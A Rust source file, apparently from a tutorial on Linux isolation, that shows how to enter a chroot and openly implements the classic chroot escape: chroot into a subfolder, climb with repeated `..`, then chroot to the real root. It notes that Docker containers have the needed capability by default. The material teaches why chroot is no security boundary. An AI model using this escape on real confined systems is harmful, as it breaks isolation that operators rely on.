//! `chroot`, and the escape from it.
//!
//! `chroot` was made in 1979 to build a system in a folder, not to lock anybody up. It changes
//! where `/` is for a process, and that a path cannot climb above it. It does not move the working
//! directory, and root may call it again.

use std::path::Path;

use namespaces::{Result, step};
use nix::unistd::{chdir, chroot};

/// Takes `folder` for `/`, as [chroot(2)](https://man7.org/linux/man-pages/man2/chroot.2.html) does.
pub fn enter(folder: &Path) -> Result<()> {
    step("chroot to", folder.display(), || chroot(folder))?;
    step("change directory to", "/", || chdir("/"))
}

/// Climbs out of a chroot. It needs `CAP_SYS_CHROOT`, which Docker's containers have by default.
///
/// The kernel stops `..` at the root. So: take a *lower* folder for root, while the working
/// directory stays where it is, outside of it. From there `..` never meets the root, up to the
/// real one.
// ANCHOR: escape
pub fn escape() -> Result<()> {
    // ANCHOR: ex-02-1
    // 1. Make a folder in the working directory, and take it for root. Stay where you are: that is
    //    outside now.
    let lower = ".escape";
    let _ = nix::unistd::mkdir(lower, nix::sys::stat::Mode::S_IRWXU);
    step("chroot to", lower, || chroot(lower))?;
    // 2. Climb. Above the real root there is nothing, and one more `..` does no harm: 64 are enough.
    for _ in 0..64 {
        step("change directory to", "..", || chdir(".."))?;
    }
    // 3. Take for root where you have come to.
    step("chroot to", ".", || chroot("."))?;
    step("change directory to", "/", || chdir("/"))
    // ANCHOR_END: ex-02-1
}
// ANCHOR_END: escape
